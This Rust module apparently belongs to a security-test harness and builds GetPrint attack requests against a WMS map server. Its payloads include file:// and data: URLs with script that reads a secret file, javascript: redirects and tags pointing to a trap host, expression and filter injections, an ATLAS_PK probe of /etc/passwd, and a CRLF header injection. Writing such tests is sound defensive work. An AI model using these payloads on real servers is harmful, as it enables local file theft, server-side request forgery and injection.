//! `GetPrint`: files, scripts and expressions in a layout's frame and labels.

use super::super::{
    attack::Attack,
    spell::{Ask, Much, Parameters, spelled},
    words::Words,
};
use super::expressions;

const FAMILY: &str = "prints";

/// Prints that show files and what expressions tell.
pub(super) fn attacks(words: &Words) -> Vec<Attack> {
    let frame = format!("file://{}", words.secret);
    let honest =
        "SERVICE=WMS&VERSION=1.3.0&TEMPLATE=A4&FORMAT=pdf&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=40";
    let sharp = vec![("REQUEST".to_owned(), "GetPrint".to_owned()), ("WEBFRAME".into(), frame)];
    let main = Ask::new(FAMILY, "a file in a frame", honest, sharp);
    let mut attacks = spelled(&[main], &words.alpha, Much::All);
    attacks.extend(spelled(&filled(words), &words.alpha, Much::Some(3)));
    attacks.extend(spelled(&evaluated(words), &words.alpha, Much::Some(0)));
    attacks.extend(spelled(&maps(words), &words.alpha, Much::Some(4)));
    attacks
}

fn print(format: &str) -> String {
    format!(
        "SERVICE=WMS&VERSION=1.3.0&REQUEST=GetPrint&TEMPLATE=A4&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=40&FORMAT={format}"
    )
}

fn one(name: &str, value: impl Into<String>) -> Parameters {
    vec![(name.into(), value.into())]
}

/// The frame and the labels, filled with what loads.
fn filled(words: &Words) -> Vec<Ask> {
    let Words { secret, page, svg, png, trap, .. } = words;
    let read = |url: &str| {
        format!(
            "<body>a<script>var x=new XMLHttpRequest();x.open('GET','{url}',false);x.send();document.body.innerHTML=x.responseText</script></body>"
        )
    };
    let values = [
        ("WEBFRAME", format!("file://{page}")),
        ("WEBFRAME", format!("file://{svg}")),
        ("WEBFRAME", secret.clone()),
        ("WEBFRAME", format!("FILE://localhost{secret}")),
        ("WEBFRAME", format!("file:{secret}")),
        ("WEBFRAME", format!("{trap}/frame")),
        ("WEBFRAME", format!("data:text/html,{}", read(&format!("file://{secret}")))),
        ("WEBFRAME", format!("javascript:location='{trap}/script'")),
        ("WEBFRAME", "[% 'file://' || @project_path %]".into()),
        ("WEBLABEL", read(&format!("file://{secret}"))),
        ("WEBLABEL", read(&format!("{trap}/label"))),
        ("WEBLABEL", format!("<img src='file://{png}' width='300' height='300'>")),
        ("WEBLABEL", format!("<img src='{trap}/picture'>")),
        ("WEBLABEL", format!("<iframe src='file://{page}'></iframe>")),
        ("WEBLABEL", format!("<link rel='stylesheet' href='{trap}/style'>")),
        ("WEBLABEL", "[% @keyword %]".into()),
        ("LABEL", "[% @keyword %]".into()),
        ("LABEL", "[% @project_path %]".into()),
        ("LABEL", "[% aggregate('hidden','max',\"name\") %]".into()),
        ("LABEL", "[% aggregate('places','max',\"hush\") %]".into()),
        ("LABEL", "[% attribute(get_feature('unserved','num',7),'name') %]".into()),
        ("label", "[%@keyword%]".into()),
    ];
    let asks = values.iter().flat_map(|(item, value)| {
        ["pdf", "png"].map(|format| Ask::new(FAMILY, *item, &print(format), one(item, value)))
    });
    asks.collect()
}

/// Every pair of expressions, in a label.
fn evaluated(words: &Words) -> Vec<Ask> {
    let label = |expression: &str| one("LABEL", format!("[% if({expression},'yes','no') %]"));
    let pairs = expressions::pairs(words);
    pairs.iter().map(|(so, not)| Ask::new(FAMILY, so, &print("png"), label(so)).against(label(not))).collect()
}

/// The maps of a layout, and its atlas.
fn maps(words: &Words) -> Vec<Ask> {
    let external = vec![
        ("MAP0:LAYERS".into(), "EXTERNAL_WMS:y".into()),
        ("y:url".into(), format!("{}/print", words.trap)),
        ("y:layers".into(), "a".into()),
        ("y:format".into(), "image/png".into()),
        ("y:crs".into(), "EPSG:3857".into()),
        ("y:styles".into(), String::new()),
    ];
    let escape = "subset:\"num\" = 0 ) OR ( \"num\" = \"num\"";
    let filter = vec![("MAP0:LAYERS".into(), "subset".into()), ("FILTER".into(), escape.into())];
    let style = Words::style("places", &words.svg);
    vec![
        Ask::new(FAMILY, "a layer from elsewhere", &print("png"), external),
        Ask::new(FAMILY, "a restricted layer", &print("png"), one("MAP0:LAYERS", "hidden")),
        Ask::new(FAMILY, "out of a layer's filter", &print("png"), filter),
        Ask::new(
            FAMILY,
            "a style from elsewhere",
            &print("png"),
            one("SLD", format!("{}/print", words.trap)),
        ),
        Ask::new(
            FAMILY,
            "a map's style from elsewhere",
            &print("png"),
            one("MAP0:SLD", format!("{}/print", words.trap)),
        ),
        Ask::new(FAMILY, "a style with a picture", &print("png"), one("SLD_BODY", style)),
        Ask::new(FAMILY, "an atlas", &print("pdf"), one("ATLAS_PK", "1) or (file_exists('/etc/passwd')")),
        Ask::new(FAMILY, "a header of one's own", &print("pdf"), one("FILE_NAME", "a\"\r\nX-Pwned: \"b")),
        Ask::new(FAMILY, "the other catalogue", &print("pdf"), one("MAP", words.beta.clone())),
        Ask::new(FAMILY, "SVG", &print("svg"), one("LABEL", "[% @keyword %]")),
    ]
}
